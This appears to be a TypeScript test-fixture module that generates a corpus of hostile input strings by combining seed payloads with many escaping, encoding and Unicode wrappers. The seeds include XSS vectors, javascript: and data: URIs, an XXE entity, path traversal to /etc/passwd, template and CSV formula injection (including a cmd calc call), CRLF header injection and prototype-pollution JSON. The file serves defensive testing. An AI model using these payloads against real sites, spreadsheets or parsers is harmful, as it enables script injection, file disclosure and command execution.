// What somebody might write who means harm: each of SEEDS in each of WRAPPERS. The same texts each time.
// A script among them that ran would set `harmed`; whatever asks for something else asks for it of FOREIGN.

const FOREIGN = 'https://foreign.example'

const LONGEST = 10_000
const LABEL = 200

const RUN = 'globalThis.harmed=1'
const MARKS = Array.from({ length: 24 }, (_, index) => String.fromCodePoint(0x300 + index * 4)).join('')

const SEEDS: readonly string[] = [
  // HTML.
  `<script>${RUN}</script>`,
  `<script src=${FOREIGN}/a.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${FOREIGN}/a.png srcset="${FOREIGN}/b.png 2x">`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<iframe src="javascript:parent.harmed=1"></iframe>`,
  `<a href="javascript:${RUN}" ping=${FOREIGN}/ping autofocus onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<link rel=stylesheet href=${FOREIGN}/a.css>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  `<base href=${FOREIGN}/>`,
  `<style>@import "${FOREIGN}/a.css";*{background:url(${FOREIGN}/b)}</style>`,
  `<object data=${FOREIGN}/a></object><embed src=${FOREIGN}/b>`,
  `<form action=${FOREIGN}/f><button formaction="javascript:${RUN}">x`,
  `<video autoplay src=${FOREIGN}/v onloadstart=${RUN}></video>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<!doctype html><html><body onload=${RUN}>`,
  '<plaintext>',
  '<!--',
  // SVG and XML.
  `<svg onload=${RUN}><script>${RUN}</script></svg>`,
  `<svg><use href="${FOREIGN}/a.svg#x"/><image href="${FOREIGN}/i.png"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${FOREIGN}/e">]>&e;`,
  `<?xml-stylesheet href="${FOREIGN}/a.css"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  '&lt;script&gt;&#0;&#xFFFE;&nbsp;&amp;&bogus;',
  // Addresses.
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/javascript,${RUN}`,
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMuaGFybWVkPTEiLz4=',
  `vbscript:${RUN}`,
  `${FOREIGN}/?a=1&b=2#c`,
  `//foreign.example/${'a/'.repeat(9)}`,
  'www.foreign.example',
  'someone@foreign.example',
  'xmpp:someone@foreign.example/a',
  'mailto:someone@foreign.example?subject=a%0Ab',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%00%E0%A4%A',
  // Template marks of one program or another.
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  '{% raw %}{{count}}{{role}}{{value}}{% endraw %}',
  "$t(app.title) $1 $& $` $' $<a>",
  '%s %d %n %@ %1$s',
  // Formulas.
  `=HYPERLINK("${FOREIGN}/f","x")`,
  `=cmd|' /C calc'!A1`,
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
  `;=1+1;"=2",\t=3`,
  // Markdown and Mermaid.
  `[x](javascript:${RUN}) ![i](${FOREIGN}/i.png)`,
  `[x]: ${FOREIGN}/ref "t"\n\n[x]`,
  '# h\n\n---\n\n1. a\n   - b\n\n> q\n\n    code',
  '```html\n<b>\n```\n~~~\n| a | b |\n|---|---|\n| c | d |',
  '<https://foreign.example/auto> <someone@foreign.example> [^1] $x^2$ :smile: - [ ] t',
  '*a* _b_ **c** __d__ ~~e~~ `f` ==g== H~2~O \\*',
  `"] --> r1; click r1 "javascript:${RUN}"; subgraph end`,
  `%%{init: {"securityLevel": "loose"}}%%`,
  // Scripts that run from right to left, and what turns a line.
  '\u202Egpj.exe',
  '\u2066\u2067a\u2069\u202D\u202Ab\u202Bc',
  'مرحبا (SEO) שלום 123',
  '\u200F\u061Ca\u200E',
  // What is not seen.
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg',
  '\u{E0041}\u{E0042}\u{E007F}',
  '\u2028\u2029\u0085\v\f',
  '\u0000',
  'a\u0000b\u0001c\u001Bd\u007Fe\u009Bf',
  '\uFFFE\uFFFF\u{1FFFF}\uFFFD\uFFF9\uFFFB',
  // Halves of characters, and more than a line holds.
  '\uD800',
  'a\uDFFFb\uD83D',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\uFE0F\u{1F1E8}\u{1F1F3}',
  `Z${MARKS}a${MARKS}l${MARKS}`,
  '﷽𒐫𒈙⸻',
  // Names of what all objects have.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  '{"__proto__":{"harmed":1}}',
  // What ends a line, a string or a value.
  'a\r\nb\rc\nd',
  `\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `","harmed":1,"x":"`,
  `');${RUN};//`,
  '\\u003cscript\\u003e\\x3c\\0\\',
  'null',
  'NaN',
  '1e999',
  '[]',
  '~~~',
  // What only looks like the code of a language.
  'en-ab12',
  'en-US-US',
  'zh-CN-u-x',
]

const between = (text: string, mark: string): string => [...text].join(mark)
const asCharacters = (text: string): string =>
  [...text].map((sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('')
const encoded = (text: string): string => encodeURIComponent(text.toWellFormed())
const wide = (text: string): string =>
  text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))

const WRAPPERS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `${text} ${text}`,
  (text) => [...text].toReversed().join(''),
  // Out of where it may stand.
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `"'\`>${text}<"'\``,
  (text) => `</script>${text}`,
  (text) => `</title></style></textarea></noscript>${text}`,
  (text) => `<!--><script>${text}`,
  (text) => `--!>${text}<!--`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `*/${text}/*`,
  (text) => `}}${text}{{`,
  (text) => `\\"${text}\\`,
  (text) => `\\\\${text}\\\\`,
  // Into where it might run.
  (text) => `<svg><title>${text}</title></svg>`,
  (text) => `<svg><style>${text}</style></svg>`,
  (text) => `<textarea>${text}</textarea>`,
  (text) => `<a href='${text}'>${text}</a>`,
  (text) => `<img alt="${text}" src="${text}">`,
  (text) => `<p style="background:url(${text})">`,
  (text) => `javascript:${text}`,
  (text) => ` \tjava\nscript:${text}`,
  (text) => `data:text/html,${text}`,
  (text) => `{{${text}}}`,
  (text) => `\${${text}}`,
  (text) => `[${text}](${text})`,
  (text) => `![${text}](${FOREIGN}/${text})`,
  (text) => `<${text}>`,
  (text) => `\`${text}\``,
  (text) => `**${text}**`,
  (text) => `| ${text} |`,
  (text) => `# ${text}`,
  (text) => `- ${text}`,
  (text) => `    ${text}`,
  (text) => `1) ${text}`,
  (text) => `"${text}"`,
  (text) => `'${text}`,
  (text) => `=${text}`,
  (text) => `;=${text}`,
  (text) => `\t${text}`,
  (text) => `a,"${text}`,
  (text) => `~${text}~${text}`,
  (text) => `&${text}=${text}#${text}`,
  // Written otherwise.
  encoded,
  (text) => encoded(encoded(text)),
  asCharacters,
  wide,
  (text) => JSON.stringify(text),
  (text) => `{"__proto__":${JSON.stringify(text)}}`,
  (text) => text.replaceAll(' ', '\u00A0'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.normalize('NFKD'),
  // With what is not seen, or turns.
  (text) => between(text, '\u200B'),
  (text) => between(text, '\u0000'),
  (text) => `\u0000${text}`,
  (text) => `\uFEFF${text}`,
  (text) => `\u00A0${text}\u3000`,
  (text) => `\u202E${text}`,
  (text) => `\u2067${text}\u2066`,
  (text) => `\u202A\u202B\u202C\u202D${text}\u2069`,
  (text) => `عربي${text}עברית`,
  (text) => between(text.slice(0, 40), MARKS),
  (text) => `\uDC00${text}\uD800`,
  (text) => between(text, '\uD83D'),
  (text) => between(text, '\u200D'),
  // On several lines.
  (text) => `\n${text}`,
  (text) => `a\n${text}\nb`,
  (text) => `a\r\n\r\n${text}`,
  (text) => `a\u2028${text}\u2029`,
  (text) => between(text, '\n'),
  // As long as they may be, and longer.
  (text) => text.repeat(Math.ceil(LABEL / text.length)).slice(0, LABEL),
  (text) => text.repeat(Math.ceil(LABEL / text.length)).slice(0, LABEL + 1),
  (text) => `${'x'.repeat(LABEL)}${text}`.slice(-LABEL),
]

/** Few of them, since each is a page of text. */
const LONG_WRAPPERS: readonly ((text: string) => string)[] = [
  (text) => text.repeat(Math.ceil(LONGEST / text.length)).slice(0, LONGEST),
  (text) => `${'y'.repeat(LONGEST)}${text}`,
]

export const allTexts: readonly string[] = [
  ...new Set(
    SEEDS.flatMap((seed, index) => [
      ...WRAPPERS.map((wrap) => wrap(seed)),
      ...LONG_WRAPPERS.filter((_, at) => index % 2 === at).map((wrap) => wrap(seed)),
    ]),
  ),
].filter((text) => text !== '')

/** Each seed and each wrapper among them. */
const sample: readonly string[] = [
  ...new Set([
    ...SEEDS,
    ...[...WRAPPERS, ...LONG_WRAPPERS].map((wrap, index) => wrap(SEEDS[(index * 7) % SEEDS.length] ?? '')),
  ]),
].filter((text) => text !== '')

/** All of them, or those that stand for the others. */
export const hostileTexts = (isWhole: boolean): readonly string[] => (isWhole ? allTexts : sample)
